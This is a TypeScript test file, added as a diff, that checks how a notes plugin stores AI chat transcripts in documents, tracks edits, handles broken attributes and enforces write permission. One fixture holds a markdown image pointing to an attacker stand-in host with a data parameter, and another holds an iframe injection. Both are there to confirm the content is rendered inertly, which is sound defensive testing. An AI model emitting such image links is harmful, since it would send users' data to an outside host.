@@ -1,0 +1,113 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { CHAT_ATTRIBUTES, type ProjectedMessage } from '../../src/host/attributes.ts';
+import { codeOf, signal, startBench, steady, type TestBench } from './support.ts';
+
+let bench: TestBench;
+beforeAll(async () => {
+  bench = await startBench();
+  bench.policy.setRight(bench.notebook, 'write');
+});
+afterAll(() => bench.close());
+
+const labels = { user: 'You', assistant: 'Marginalia', separator: '—' };
+const messages: readonly ProjectedMessage[] = [
+  {
+    nodeId: 'n1',
+    parentId: null,
+    role: 'user',
+    markdown: 'What about *solar*?',
+    message: { content: 'What about *solar*?', author: 'user' },
+  },
+  {
+    nodeId: 'n2',
+    parentId: 'n1',
+    role: 'assistant',
+    markdown: 'Two notes:\n\n- one\n- two\n\n![x](http://evil.example/?d=1)',
+    hint: '<SYSTEM-CONTEXT>\n"hint" & more\n</SYSTEM-CONTEXT>',
+    chain: [{ callId: 'c1', tool: 'search_notes', status: 'success', ms: 12 }],
+    vars: [{ name: 'search_notes_c1_result', type: 'ToolCallResult', value: 'long '.repeat(50), created: 1 }],
+    message: { content: 'raw', usage: { total_tokens: 3 } },
+  },
+];
+
+describe('a chat kept in a document', () => {
+  it('is saved, read back with hints, chains and variables, and appended to without touching what stands', async () => {
+    const { chatDocument } = bench.host;
+    const target = { notebook: bench.notebook, path: '/Chats/Solar' };
+    const first = await chatDocument.save({ target, sessionId: 's1', messages, labels }, signal);
+    expect(first.appended).toEqual(['n1', 'n2']);
+    expect(await bench.blocks(first.documentId)).toHaveLength(2);
+    const chat = await chatDocument.read(first.documentId, signal);
+    expect(chat).toMatchObject({ sessionId: 's1', title: 'Solar' });
+    for (const [index, message] of messages.entries()) {
+      const { markdown: _markdown, ...rest } = message;
+      expect(chat!.messages[index]).toMatchObject({ ...rest, sessionId: 's1', edited: false, problems: [] });
+    }
+    expect(chat!.messages[1]!.markdown).toContain('- one\n- two');
+    expect(await bench.dom(first.documentId)).not.toContain('<img');
+
+    const before = steady(await bench.dom(first.documentId));
+    const print = bench.fingerprint();
+    expect(await chatDocument.save({ target: { documentId: first.documentId }, sessionId: 's1', messages, labels }, signal)).toMatchObject({
+      appended: [],
+    });
+    expect(await bench.blocks(first.documentId)).toHaveLength(2);
+    const more = [...messages, { nodeId: 'n3', parentId: 'n2', role: 'user' as const, markdown: '<iframe src="x"></iframe> ```js' }];
+    expect(
+      (await chatDocument.save({ target: { documentId: first.documentId }, sessionId: 's1', messages: more, labels }, signal)).appended,
+    ).toEqual(['n3']);
+    expect(bench.fingerprint()).not.toBe(print);
+    const ids = await bench.blocks(first.documentId);
+    expect(ids).toHaveLength(3);
+    expect(steady((await Promise.all(ids.slice(0, 2).map((id) => bench.dom(id)))).join(''))).toBeTruthy();
+    expect((await chatDocument.read(first.documentId, signal))!.messages[2]!.markdown).toContain('<iframe');
+    expect(before).toContain('custom-marginalia-node');
+  });
+
+  it('marks what was edited in the document, and counts only the first of copied blocks', async () => {
+    const { chatDocument } = bench.host;
+    const { documentId } = await chatDocument.save(
+      { target: { notebook: bench.notebook, path: '/Chats/Edited' }, sessionId: 's2', messages, labels },
+      signal,
+    );
+    const [first, second] = await bench.blocks(documentId);
+    const [, text] = await bench.blocks(first!);
+    const edited = (await bench.dom(text!)).replace('What about', 'What else about');
+    await bench.transact([{ action: 'update', id: text, data: edited }]);
+    const copy = '20260101000000-copycop';
+    const copied = (await bench.dom(second!)).replaceAll(
+      /data-node-id="[^"]*"/g,
+      () => `data-node-id="20260101000000-${Math.random().toString(36).slice(2, 9).padEnd(7, '0')}"`,
+    );
+    await bench.transact([
+      { action: 'insert', id: copy, data: copied.replace(/data-node-id="[^"]*"/, `data-node-id="${copy}"`), previousID: second },
+    ]);
+    const chat = await chatDocument.read(documentId, signal);
+    expect(chat!.messages.map((message) => [message.nodeId, message.edited, message.blockId])).toEqual([
+      ['n1', true, first],
+      ['n2', false, second],
+    ]);
+  });
+
+  it('survives attributes that somebody broke, and is null for other documents', async () => {
+    const { chatDocument } = bench.host;
+    const { documentId } = await chatDocument.save(
+      { target: { notebook: bench.notebook, path: '/Chats/Broken' }, sessionId: 's3', messages, labels },
+      signal,
+    );
+    const [, second] = await bench.blocks(documentId);
+    await bench.api('/api/attr/setBlockAttrs', { id: second, attrs: { [CHAT_ATTRIBUTES.vars]: 'not packed' } });
+    const chat = await chatDocument.read(documentId, signal);
+    expect(chat!.messages[1]).toMatchObject({ problems: [CHAT_ATTRIBUTES.vars], chain: messages[1]!.chain });
+    expect(await chatDocument.read(await bench.document('/Plain', 'x'), signal)).toBeNull();
+  });
+
+  it('needs the right to write', async () => {
+    bench.policy.setRight(bench.notebook, 'read');
+    const print = bench.fingerprint();
+    const request = { target: { notebook: bench.notebook, path: '/Chats/No' }, sessionId: 's4', messages, labels };
+    expect(await codeOf(bench.host.chatDocument.save(request, signal))).toBe('no_right');
+    expect(bench.fingerprint()).toBe(print);
+    bench.policy.setRight(bench.notebook, 'write');
+  });
+});
